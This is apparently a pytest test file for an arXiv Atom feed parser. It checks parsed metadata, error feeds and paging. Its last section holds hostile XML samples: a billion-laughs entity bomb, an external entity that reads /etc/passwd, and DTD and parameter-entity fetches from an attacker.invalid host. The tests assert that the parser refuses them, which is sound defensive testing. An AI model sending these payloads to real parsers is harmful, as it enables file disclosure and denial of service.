"""Parser tests: every fixture feed, exact values; error feeds; hostile XML refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from apps.arxiv.parsing import ArxivApiError, ArxivFeedError, ArxivPage, parse_feed
from apps.core.errors import UpstreamError

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "arxiv"


def feed(name: str) -> ArxivPage:
    return parse_feed((FIXTURES / name).read_bytes())


def page_counters(page: ArxivPage) -> dict:
    return {key: value for key, value in page.as_dict().items() if key != "items"}


# --- 2026 serialisation ------------------------------------------------------------------


def test_2026_id_list_entry_exact() -> None:
    page = feed("idlist_1605.08386.xml")
    assert page_counters(page) == {"totalResults": 1, "start": 0, "itemsPerPage": 100}
    assert page.next_start is None
    assert page.feed_query == "search_query=&id_list=1605.08386&start=0&max_results=100"
    assert page.as_dict()["items"] == [
        {
            "id": "1605.08386",
            "versionedId": "1605.08386v1",
            "version": 1,
            "title": "Heat-bath random walks with Markov bases",
            "summary": (
                "Graphs on lattice points are studied whose edges come from a finite set of allowed moves "
                "of arbitrary length. We show that the diameter of these graphs on fibers of a fixed "
                "integer matrix can be bounded from above by a constant. We then study the mixing "
                "behaviour of heat-bath random walks on these graphs. We also state explicit conditions "
                "on the set of moves so that the heat-bath random walk, a generalization of the Glauber "
                "dynamics, is an expander in fixed dimension."
            ),
            "published": "2016-05-26T17:59:46Z",
            "updated": "2016-05-26T17:59:46Z",
            "authors": ["Caprice Stanley", "Tobias Windisch"],
            "authorDetails": [
                {"name": "Caprice Stanley", "affiliations": []},
                {"name": "Tobias Windisch", "affiliations": []},
            ],
            "url": "https://arxiv.org/abs/1605.08386v1",
            "pdfUrl": "https://arxiv.org/pdf/1605.08386v1",
            "categories": ["math.CO", "math.ST"],
            "primaryCategory": "math.CO",
            "comment": "20 pages, 3 figures",
        }
    ]


def test_2026_old_style_versioned_id_exact() -> None:
    page = feed("idlist_quant-ph_0201082v1_oldstyle_versioned.xml")
    assert page_counters(page) == {"totalResults": 1, "start": 0, "itemsPerPage": 100}
    [item] = page.items
    assert item == {
        "id": "quant-ph/0201082",
        "versionedId": "quant-ph/0201082v1",
        "version": 1,
        "title": (
            "Quantum Computers and Quantum Computer Languages: Quantum Assembly Language and "
            "Quantum C Language"
        ),
        "summary": (
            "We show a representation of Quantum Computers defines Quantum Turing Machines with "
            "associated Quantum Grammars. We then create examples of Quantum Grammars. Lastly we "
            "develop an algebraic approach to high level Quantum Languages using Quantum Assembly "
            "language and Quantum C language as examples."
        ),
        "published": "2002-01-18T15:08:05Z",
        "updated": "2002-01-18T15:08:05Z",
        "authors": ["Stephen Blaha"],
        "authorDetails": [{"name": "Stephen Blaha", "affiliations": []}],
        "url": "https://arxiv.org/abs/quant-ph/0201082v1",
        "pdfUrl": "https://arxiv.org/pdf/quant-ph/0201082v1",
        "categories": ["quant-ph", "cs.PL"],
        "primaryCategory": "quant-ph",
        "comment": "32 pages",
    }


def test_2026_empty_feed_is_an_empty_page() -> None:
    page = feed("idlist_0000.0000_empty_feed.xml")
    assert page.items == ()
    assert page.as_dict() == {"items": [], "totalResults": 0, "start": 0, "itemsPerPage": 100}
    assert page.next_start is None


# (versionedId, published, updated, primaryCategory, categories, doi, authors) in feed order.
TESTING_PAGE_0 = [
    (
        "2202.12139v1",
        "2022-02-24T15:05:19Z",
        "2022-02-24T15:05:19Z",
        "cs.SE",
        ["cs.SE", "cs.LG"],
        "10.1109/ICSTW55395.2022.00035",
        ["Mohit Kumar Ahuja", "Arnaud Gotlieb", "Helge Spieker"],
    ),
    (
        "2405.13786v1",
        "2024-05-22T16:11:45Z",
        "2024-05-22T16:11:45Z",
        "cs.SE",
        ["cs.SE", "cs.AI"],
        "10.1109/ICSTW58534.2023.00023",
        ["Aurora Ramírez", "Mario Berrios", "José Raúl Romero", "Robert Feldt"],
    ),
    (
        "2005.14124v2",
        "2020-05-28T16:19:50Z",
        "2020-07-16T08:15:48Z",
        "cs.SE",
        ["cs.SE", "cs.CR", "cs.LG"],
        "10.1145/3395363.3397376",
        ["Yuqi Chen", "Bohan Xuan", "Christopher M. Poskitt", "Jun Sun", "Fan Zhang"],
    ),
    (
        "2204.08348v3",
        "2022-04-18T14:46:24Z",
        "2022-07-06T05:12:56Z",
        "cs.SE",
        ["cs.SE"],
        "10.1145/3533767.3534401",
        ["Myeongsoo Kim", "Qi Xin", "Saurabh Sinha", "Alessandro Orso"],
    ),
    (
        "2302.03287v3",
        "2023-02-07T06:41:02Z",
        "2023-03-11T21:03:09Z",
        "cs.SE",
        ["cs.SE", "cs.HC"],
        "10.1109/ICSTW58534.2023.00078",
        ["Sajed Jalil", "Suzzana Rafi", "Thomas D. LaToza", "Kevin Moran", "Wing Lam"],
    ),
    (
        "1202.4527v1",
        "2012-02-21T05:12:13Z",
        "2012-02-21T05:12:13Z",
        "cs.SE",
        ["cs.SE"],
        None,
        ["A. Isabella", "Emi Retna"],
    ),
    (
        "2503.05378v2",
        "2025-03-07T12:39:59Z",
        "2025-08-12T14:08:11Z",
        "cs.SE",
        ["cs.SE"],
        None,
        ["Iva Kertusha", "Gebremariem Assress", "Onur Duman", "Andrea Arcuri"],
    ),
    (
        "1205.1866v1",
        "2012-05-09T04:15:39Z",
        "2012-05-09T04:15:39Z",
        "cs.AR",
        ["cs.AR"],
        "10.5121/vlsic.2012.3205",
        ["Amandeep Singh", "Balwinder Singh"],
    ),
    (
        "2502.07719v2",
        "2025-02-11T17:23:52Z",
        "2025-02-12T11:24:59Z",
        "cs.SE",
        ["cs.SE"],
        None,
        ["Qurban Ali", "Andrea Stocco", "Leonardo Mariani", "Oliviero Riganelli"],
    ),
    (
        "1812.11470v1",
        "2018-12-30T04:50:20Z",
        "2018-12-30T04:50:20Z",
        "cs.SE",
        ["cs.SE"],
        None,
        ["Yauhen Leanidavich Arnatovich", "Lipo Wang"],
    ),
]
TESTING_PAGE_10 = [
    (
        "2403.16981v2",
        "2024-03-25T17:42:32Z",
        "2025-05-24T05:50:33Z",
        "math.ST",
        ["math.ST", "cs.IT", "stat.ML"],
        None,
        ["Ankit Pensia", "Varun Jog", "Po-Ling Loh"],
    ),
    (
        "2004.03322v1",
        "2020-04-07T12:59:08Z",
        "2020-04-07T12:59:08Z",
        "stat.AP",
        ["stat.AP"],
        None,
        ["Itsik Bergel"],
    ),
    (
        "1912.09881v1",
        "2019-12-20T15:28:25Z",
        "2019-12-20T15:28:25Z",
        "cs.SE",
        ["cs.SE", "cs.AI"],
        None,
        ["Hong Zhu", "Ian Bayley", "Dongmei Liu", "Xiaoyu Zheng"],
    ),
    (
        "2406.19956v3",
        "2024-06-28T14:41:13Z",
        "2024-10-06T11:15:47Z",
        "econ.EM",
        ["econ.EM"],
        None,
        ["Anil K. Bera", "Yannis Bilias"],
    ),
    (
        "1912.04900v1",
        "2019-12-10T13:26:53Z",
        "2019-12-10T13:26:53Z",
        "cs.SE",
        ["cs.SE", "cs.AI"],
        None,
        ["Hong Zhu", "Dongmei Liu", "Ian Bayley", "Rachel Harrison", "Fabio Cuzzolin"],
    ),
    (
        "2301.05651v1",
        "2023-01-13T16:45:56Z",
        "2023-01-13T16:45:56Z",
        "cs.LG",
        ["cs.LG", "cs.SE"],
        None,
        ["Florian Tambon", "Vahid Majdinasab", "Amin Nikanjam", "Foutse Khomh", "Giuliano Antonio"],
    ),
    (
        "1605.01097v1",
        "2016-05-03T21:33:11Z",
        "2016-05-03T21:33:11Z",
        "cs.SE",
        ["cs.SE"],
        None,
        ["Kevin Taylor-Sakyi"],
    ),
    (
        "2301.13615v1",
        "2023-01-31T13:17:15Z",
        "2023-01-31T13:17:15Z",
        "cs.SE",
        ["cs.SE"],
        None,
        ["Ezio Bartocci", "Leonardo Mariani", "Dejan Nickovic", "Drishti Yadav"],
    ),
    (
        "2407.18756v1",
        "2024-07-26T14:10:14Z",
        "2024-07-26T14:10:14Z",
        "cs.SE",
        ["cs.SE", "cs.AI"],
        "10.1145/3679006.3685071",
        ["Helge Spieker", "Nassim Belmecheri", "Arnaud Gotlieb", "Nadjib Lazaar"],
    ),
    (
        "2202.06271v1",
        "2022-02-13T09:42:13Z",
        "2022-02-13T09:42:13Z",
        "cs.SE",
        ["cs.SE"],
        None,
        ["Katharina Götz", "Patric Feldmeier", "Gordon Fraser"],
    ),
]


@pytest.mark.parametrize(
    ("name", "expected", "counters"),
    [
        (
            "query_search_testing_start0_max10.xml",
            TESTING_PAGE_0,
            {"totalResults": 214881, "start": 0, "itemsPerPage": 10, "nextStart": 10},
        ),
        (
            "query_search_testing_start10_max10.xml",
            TESTING_PAGE_10,
            {"totalResults": 214881, "start": 10, "itemsPerPage": 10, "nextStart": 20},
        ),
    ],
)
def test_2026_search_pages_exact(name: str, expected: list, counters: dict) -> None:
    page = feed(name)
    assert page_counters(page) == counters
    assert page.feed_query.startswith("search_query=all:testing&id_list=&start=")
    got = [
        (
            item["versionedId"],
            item["published"],
            item["updated"],
            item["primaryCategory"],
            item["categories"],
            item.get("doi"),
            item["authors"],
        )
        for item in page.items
    ]
    assert got == expected
    for item in page.items:
        base, _, version = item["versionedId"].partition("v")
        assert item["id"] == base and item["version"] == int(version)
        assert item["url"] == f"https://arxiv.org/abs/{item['versionedId']}"
        assert item["pdfUrl"] == f"https://arxiv.org/pdf/{item['versionedId']}"
        assert item["authorDetails"] == [{"name": name, "affiliations": []} for name in item["authors"]]
        assert "  " not in item["title"] and "\n" not in item["summary"]
        assert item["comment"]  # every entry of these pages has a comment


def test_2026_search_page_text_fields() -> None:
    first_page = feed("query_search_testing_start0_max10.xml").items
    assert first_page[0]["journalRef"] == (
        "Artificial Intelligence in Software Testing @ 2022 IEEE International Conference on Software "
        "Testing, Verification and Validation Workshops (ICSTW)"
    )
    assert first_page[0]["comment"] == "Artificial Intelligence in Software Testing 2022 workshop @ ICST 2022"
    assert first_page[4]["title"] == "ChatGPT and Software Testing Education: Promises & Perils"
    assert first_page[5]["journalRef"] == (
        "International Journal of Software Engineering & Applications (IJSEA), Vol.3, No.1, January 2012"
    )
    assert ["journalRef" in item for item in first_page] == [True] * 6 + [False] * 4
    second_page = feed("query_search_testing_start10_max10.xml").items
    assert not any("journalRef" in item for item in second_page)
    assert second_page[0]["title"] == "The Sample Complexity of Simple Binary Hypothesis Testing"
    assert second_page[0]["summary"].startswith(
        "The sample complexity of simple binary hypothesis testing is the smallest number of i.i.d.\\ "
        "samples required to distinguish between two distributions $p$ and $q$"
    )


# --- classic serialisation ---------------------------------------------------------------

CLASSIC_1111_SUMMARY = (
    "Theoretical description of anisotropic systems, such as layered superconductors and coupled spin "
    "chains, is often a challenge due to the different natures of interactions along different "
    'directions. As a model of such a system, we present an analytical study of d-dimensional "nodes" '
    "arranged as the vertices of a Bethe lattice, where each node has nonzero spatial dimension and is "
    "described by an O(N) quantum rotor model, and there is hopping between neighboring nodes. In the "
    "limit of large connectivity on the Bethe lattice, the hopping can be treated by constructing a "
    "self-consistent effective action for a single node. This procedure is akin to dynamical mean field "
    "theory, but generalized so that spatial as well as quantum fluctuations are taken into account on "
    "each node. The quantum phase transition is studied using this effective action for both infinite "
    "and finite N. The importance of the Perron-Frobenius uniform mode on the Bethe lattice is "
    'discussed, and its elimination via an "infinite range hopping" term shifts the transition, '
    "leading to nontrivial critical behavior. We calculate critical exponents and find that the "
    "internode hopping reduces the upper and lower critical dimensions each by one, indicating "
    "that--at least for the purposes of quantum criticality--the large number of internode couplings "
    "is similar to adding a single extra dimension to the theory describing a single node."
)


def test_classic_id_list_with_doi_and_journal_ref_exact() -> None:
    page = feed("classic2016_idlist_1111.2011v2_doi_journal_ref.xml")
    assert page_counters(page) == {"totalResults": 1, "start": 0, "itemsPerPage": 10}
    assert page.feed_query == "search_query=&id_list=1111.2011v2&start=0&max_results=10"
    [item] = page.items
    assert item == {
        "id": "1111.2011",
        "versionedId": "1111.2011v2",
        "version": 2,
        "title": "Quantum Criticality for Extended Nodes on a Bethe Lattice in the Large Connectivity Limit",
        "summary": CLASSIC_1111_SUMMARY,
        "published": "2011-11-08T18:48:36Z",
        "updated": "2012-04-02T12:38:54Z",
        "authors": ["James M. Murray", "Adrian Del Maestro", "Zlatko Tesanovic"],
        "authorDetails": [
            {"name": "James M. Murray", "affiliations": []},
            {"name": "Adrian Del Maestro", "affiliations": []},
            {"name": "Zlatko Tesanovic", "affiliations": []},
        ],
        "url": "https://arxiv.org/abs/1111.2011v2",
        "pdfUrl": "https://arxiv.org/pdf/1111.2011v2",
        "categories": ["cond-mat.str-el", "cond-mat.stat-mech"],
        "primaryCategory": "cond-mat.str-el",
        "doi": "10.1103/PhysRevB.85.115117",
        "journalRef": "Phys. Rev. B 85, 115117 (2012)",
        "comment": "8 pages, 3 figures. Published version",
    }


def test_classic_search_entry_exact() -> None:
    page = feed("classic2016_search_au_del_maestro_AND_ti_checkerboard.xml")
    assert page_counters(page) == {"totalResults": 1, "start": 0, "itemsPerPage": 10}
    assert (
        page.feed_query == "search_query=au:del_maestro AND ti:checkerboard&id_list=&start=0&max_results=10"
    )
    [item] = page.items
    assert item["id"] == "cond-mat/0603029"
    assert item["versionedId"] == "cond-mat/0603029v1"
    assert item["version"] == 1
    assert item["title"] == (
        "From stripe to checkerboard order on the square lattice in the presence of quenched disorder"
    )
    assert item["summary"].startswith(
        "We discuss the effects of quenched disorder on a model of charge density wave (CDW) ordering on "
        "the square lattice. Our model"
    )
    assert item["summary"].endswith("measured in scanning tunneling microscopy experiments.")
    assert "\n" not in item["summary"] and "  " not in item["summary"]
    assert item["published"] == item["updated"] == "2006-03-02T02:22:45Z"
    assert item["authors"] == ["Adrian Del Maestro", "Bernd Rosenow", "Subir Sachdev"]
    assert item["url"] == "https://arxiv.org/abs/cond-mat/0603029v1"
    assert item["pdfUrl"] == "https://arxiv.org/pdf/cond-mat/0603029v1"
    assert item["categories"] == ["cond-mat.str-el", "cond-mat.supr-con"]
    assert item["primaryCategory"] == "cond-mat.str-el"
    assert item["doi"] == "10.1103/PhysRevB.74.024520"
    assert item["journalRef"] == "Phys. Rev. B 74, 024520 (2006)"
    assert item["comment"] == "10 pages, 11 figures; added reference"


def test_manual_example_unversioned_id_and_offset_times() -> None:
    page = feed("manual_typical_response_hep-ex_0307015_unversioned.xml")
    assert page_counters(page) == {"totalResults": 1000, "start": 0, "itemsPerPage": 1, "nextStart": 1}
    [item] = page.items
    assert item["id"] == "hep-ex/0307015"
    assert "version" not in item and "versionedId" not in item
    assert item["published"] == item["updated"] == "2003-07-07T17:46:39Z"  # -04:00 → UTC
    assert item["title"] == "Multi-Electron Production at High Transverse Momenta in ep Collisions at HERA"
    assert item["summary"].endswith(
        "compared to Standard Model expectations of 0.30 \\pm 0.04 and 0.23 \\pm 0.04, respectively."
    )
    assert item["url"] == "https://arxiv.org/abs/hep-ex/0307015v1"
    assert item["pdfUrl"] == "https://arxiv.org/pdf/hep-ex/0307015v1"
    assert item["authors"] == ["H1 Collaboration"]
    assert item["categories"] == ["hep-ex"]
    assert item["primaryCategory"] == "hep-ex"
    assert item["journalRef"] == "Eur.Phys.J. C31 (2003) 17-29"
    assert item["comment"] == "23 pages, 8 figures and 4 tables"
    assert "doi" not in item


# --- what the recordings lack: affiliations, MSC/ACM codes, DOI spellings ---------------------


def test_affiliations_non_arxiv_categories_and_doi_links_exact() -> None:
    page = feed("constructed_2026_affiliations_msc_acm.xml")
    assert page_counters(page) == {"totalResults": 3, "start": 0, "itemsPerPage": 2, "nextStart": 2}
    first, second = page.items
    assert first == {
        "id": "2601.00001",
        "versionedId": "2601.00001v3",
        "version": 3,
        "title": "A constructed entry: affiliations, MSC and ACM classes",
        "summary": (
            "Written by hand to cover what the recorded feeds lack: <arxiv:affiliation> (0, 1 and 2 per "
            "author), non-arXiv category terms, a DOI given as a resolver URL & an empty comment."
        ),
        "published": "2026-01-01T00:00:01Z",
        "updated": "2026-02-03T04:05:06Z",
        "authors": ["G. G. Kacprzak", "Ada Example", "Bo Example"],
        "authorDetails": [
            {"name": "G. G. Kacprzak", "affiliations": ["NMSU"]},
            {"name": "Ada Example", "affiliations": ["University One", "Institute Two"]},
            {"name": "Bo Example", "affiliations": []},
        ],
        "url": "https://arxiv.org/abs/2601.00001v3",
        "pdfUrl": "https://arxiv.org/pdf/2601.00001v3",
        "categories": ["cs.LO", "math.LO", "03B70, 68Q99", "F.4.1; F.4.m; K.2"],
        "primaryCategory": "cs.LO",
        "doi": "10.1000/xyz123",
        "journalRef": "J. Constr. Fixtures 1 (2026) 1-2",
    }
    assert "comment" not in first  # an empty element is absent, not ""
    assert second["doi"] == "10.1000/abc.456"  # from the dx.doi.org link alone
    assert "pdfUrl" not in second
    assert second["primaryCategory"] == "cs.LO"  # no arxiv:primary_category: the first category


# --- error feeds ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "message", "slug"),
    [
        (
            "manual_error_feed_incorrect_id_format.xml",
            "incorrect id format for 1234.12345",
            "incorrect_id_format_for_1234.12345",
        ),
        (
            "constructed_2026_error_feed_http400.xml",
            "incorrect id format for 1706.0376",
            "incorrect_id_format_for_1706.0376",
        ),
    ],
)
def test_error_feed_raises_terminal_error_with_arxiv_message(name: str, message: str, slug: str) -> None:
    with pytest.raises(ArxivApiError) as caught:
        feed(name)
    error = caught.value
    assert isinstance(error, UpstreamError)
    assert error.retryable is False
    assert error.arxiv_message == message
    assert error.slug == slug
    assert error.message == f"arXiv rejected the request: {message}"
    assert error.details == {"arxivMessage": message, "arxivError": slug}


# --- namespaces, not prefixes ------------------------------------------------------------


def test_elements_are_found_by_namespace_uri_not_by_prefix() -> None:
    body = b"""<?xml version="1.0"?>
<a:feed xmlns:a="http://www.w3.org/2005/Atom" xmlns:os="http://a9.com/-/spec/opensearch/1.1/"
        xmlns:x="http://arxiv.org/schemas/atom" xmlns:arxiv="urn:not-arxiv">
  <os:totalResults>7</os:totalResults><os:startIndex>3</os:startIndex><os:itemsPerPage>1</os:itemsPerPage>
  <a:entry>
    <a:author><a:name>Only Author</a:name><x:affiliation>Somewhere</x:affiliation></a:author>
    <arxiv:doi>10.9999/wrong-namespace</arxiv:doi>
    <arxiv:comment>wrong namespace</arxiv:comment>
    <x:primary_category term="hep-th"/>
    <a:category term="hep-th"/>
    <a:published>2020-01-01T00:00:00Z</a:published><a:updated>2020-01-02T00:00:00Z</a:updated>
    <a:title>T</a:title><a:summary>S</a:summary>
    <a:id>https://arxiv.org/abs/2001.00001v4</a:id>
  </a:entry>
</a:feed>"""
    page = parse_feed(body)
    assert page_counters(page) == {"totalResults": 7, "start": 3, "itemsPerPage": 1, "nextStart": 4}
    [item] = page.items
    assert item["versionedId"] == "2001.00001v4" and item["version"] == 4
    assert item["authorDetails"] == [{"name": "Only Author", "affiliations": ["Somewhere"]}]
    assert item["url"] == "https://arxiv.org/abs/2001.00001v4"  # built from the id: no link given
    assert "doi" not in item and "comment" not in item


# --- paging -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("start", "count", "total", "expected"),
    [(0, 10, 25, 10), (20, 5, 25, None), (0, 0, 25, None), (29990, 10, 214881, None), (100, 0, 5, None)],
)
def test_next_start(start: int, count: int, total: int, expected: int | None) -> None:
    item = feed("idlist_1605.08386.xml").items[0]
    page = ArxivPage(items=(item,) * count, total_results=total, start=start, items_per_page=10)
    assert page.next_start == expected
    assert ("nextStart" in page.as_dict()) is (expected is not None)


# --- hostile and broken bodies -------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE feed [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&lol9;</title></feed>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>http://arxiv.org/abs/1605.08386v1</id>
<title>&secret;</title><published>2016-05-26T17:59:46Z</published><updated>2016-05-26T17:59:46Z</updated>
</entry></feed>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE feed SYSTEM "http://attacker.invalid/evil.dtd">
<feed xmlns="http://www.w3.org/2005/Atom"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://attacker.invalid/x"> %remote;]>
<feed xmlns="http://www.w3.org/2005/Atom"/>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(ArxivFeedError) as caught:
        parse_feed(body)
    assert caught.value.retryable is False
    assert caught.value.details["reason"] == "unsafe_xml"
    assert caught.value.message == "arXiv's response declares a DTD or entities; refused as unsafe"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"<html><body>Service temporarily unavailable</body></html>", "not_atom"),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'><entry>", "malformed_xml"),
        (b"", "malformed_xml"),
        (b"<rss version='2.0'><channel/></rss>", "not_atom"),
        (b"<feed/>", "not_atom"),  # no Atom namespace
        (
            b"<feed xmlns='http://www.w3.org/2005/Atom' xmlns:o='http://a9.com/-/spec/opensearch/1.1/'>"
            b"<o:totalResults>many</o:totalResults></feed>",
            "bad_counter",
        ),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'><entry><title>x</title></entry></feed>", "missing_id"),
        (
            b"<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>http://arxiv.org/abs/1605.08386v1</id>"
            b"<published>yesterday</published></entry></feed>",
            "bad_date",
        ),
    ],
)
def test_malformed_bodies_are_terminal_feed_errors(body: bytes, reason: str) -> None:
    with pytest.raises(ArxivFeedError) as caught:
        parse_feed(body)
    assert caught.value.retryable is False
    assert caught.value.details["reason"] == reason
